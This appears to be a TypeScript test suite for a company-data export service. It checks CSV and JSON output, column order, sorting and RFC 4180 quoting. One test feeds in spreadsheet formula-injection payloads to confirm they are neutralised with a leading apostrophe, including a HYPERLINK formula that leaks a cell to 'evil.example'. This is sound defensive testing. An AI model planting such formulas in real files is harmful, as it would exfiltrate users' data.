import { parse } from 'csv-parse/sync';
import { EXPORT_CSV_COLUMNS, type Caller } from '@radar/contracts';
import { useExportWorld } from './support/export-world';

describe('export files', () => {
  const world = useExportWorld();

  /** Creates an export, waits for it and fetches its file through the presigned URL. */
  async function exportFile(caller: Caller, body: Record<string, unknown>): Promise<string> {
    const created = await world().create(caller, { name: 'file', ...body });
    expect(created.status).toBe(201);
    const job = await world().finished(caller, created.body.export_job.id);
    expect(job.status).toBe('completed');
    const download = await world().download(caller, job.id);
    const response = await fetch(download.body.download_url);
    return response.text();
  }

  const csvRows = (text: string): Record<string, string>[] => parse(text, { columns: true, bom: false, relax_quotes: false });

  it('writes CSV with exactly the columns of decisions.md, header first, rows in the search order', async () => {
    const caller = await world().workspace(2_000);
    const filters = { countries: ['Germany'], sort_by: 'name', sort_order: 'asc' };
    const expected = await world().searchIds(caller, filters);
    const text = await exportFile(caller, { search_filters: filters });

    const records: string[][] = parse(text);
    expect(records[0]).toEqual([...EXPORT_CSV_COLUMNS]);
    expect(text.split('\r\n')[0]).toBe(EXPORT_CSV_COLUMNS.join(','));
    const rows = csvRows(text);
    expect(rows.map((row) => row.company_id)).toEqual(expected);
  });

  it('holds the company detail values in each row, technologies joined with ";" and absent values empty', async () => {
    const caller = await world().workspace(2_000);
    const ids = (await world().searchIds(caller, { countries: ['France'] })).slice(0, 20);
    const listId = await world().createList(caller, ids);
    const rows = csvRows(await exportFile(caller, { source_type: 'list', list_id: listId }));
    expect(rows).toHaveLength(20);
    for (const row of rows) {
      const detail = await world().companyDetail(caller, row.company_id!);
      const cell = (value: unknown) => (value === null ? '' : String(value));
      expect(row).toEqual({
        company_id: detail.company_id,
        name: cell(detail.name),
        domain: cell(detail.domain),
        industry: cell(detail.industry),
        employee_count: cell(detail.employee_count),
        employee_range: cell(detail.employee_range),
        country: cell(detail.country),
        city: cell(detail.city),
        description: cell(detail.description),
        technologies: (detail.technologies as string[]).join(';'),
        founded_year: cell(detail.founded_year),
        profile_url: cell(detail.profile_url),
        funding_stage: cell(detail.funding_stage),
        funding_total_usd: cell(detail.funding_total_usd),
        last_funding_date: cell(detail.last_funding_date),
      });
    }
  });

  it('neutralises spreadsheet formulas: cells starting with = + - @ tab or CR, or the full-width ＝ ＋ － ＠, get a leading apostrophe', async () => {
    const caller = await world().workspace(100);
    const dangerous = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      '+SUM(1,2)',
      '-2+3',
      '@cmd',
      '\tTabbed Inc',
      '\rCarriage Inc',
      '＝HYPERLINK("http://evil.example","Wide")',
      '＋SUM(1,2) Wide',
      '－2+3 Wide',
      '＠cmd Wide',
    ];
    const ids: string[] = [];
    for (const name of dangerous) ids.push(await world().addCompany({ name, description: '=1+1 in the description too' }));
    const listId = await world().createList(caller, ids);
    const rows = csvRows(await exportFile(caller, { source_type: 'list', list_id: listId, sort_by: 'name' }));
    expect(rows.map((row) => row.name).sort()).toEqual(dangerous.map((name) => `'${name}`).sort());
    expect(rows.every((row) => row.description === "'=1+1 in the description too")).toBe(true);
    // A harmless value is left as it is.
    expect(rows.every((row) => row.city === 'Berlin')).toBe(true);
  });

  it('quotes commas, quotes and line breaks per RFC 4180, and keeps UTF-8', async () => {
    const caller = await world().workspace(100);
    const name = 'Müller, "Söhne" & Co — 東京';
    const description = 'Line one, with a comma\r\nLine "two"\nLine three';
    const id = await world().addCompany({ name, description });
    const listId = await world().createList(caller, [id]);
    const text = await exportFile(caller, { source_type: 'list', list_id: listId });
    expect(text).toContain('"Müller, ""Söhne"" & Co — 東京"');
    const [row] = csvRows(text);
    expect(row).toMatchObject({ company_id: id, name, description });
  });

  it('writes JSON as one array of company detail objects, equal to GET /companies/{id}, in the search order', async () => {
    const caller = await world().workspace(2_000);
    const filters = { countries: ['Spain'], sort_by: 'founded_year', sort_order: 'desc' };
    const expected = await world().searchIds(caller, filters);
    const text = await exportFile(caller, { search_filters: filters, export_format: 'json' });
    const companies = JSON.parse(text) as Record<string, unknown>[];
    expect(Array.isArray(companies)).toBe(true);
    expect(companies.map((company) => company.company_id)).toEqual(expected);
    for (const company of companies.slice(0, 25)) {
      expect(company).toEqual(await world().companyDetail(caller, company.company_id as string));
    }
  });

  it('writes a saved list in the search sort asked for, not in the order it was saved', async () => {
    const caller = await world().workspace(100);
    const byName = await world().searchIds(caller, { countries: ['Germany'], sort_by: 'name', sort_order: 'asc' });
    const chosen = byName.slice(0, 30);
    const listId = await world().createList(caller, [...chosen].reverse());
    const rows = csvRows(await exportFile(caller, { source_type: 'list', list_id: listId, sort_by: 'name', sort_order: 'asc' }));
    expect(rows.map((row) => row.company_id)).toEqual(chosen);
  });
});
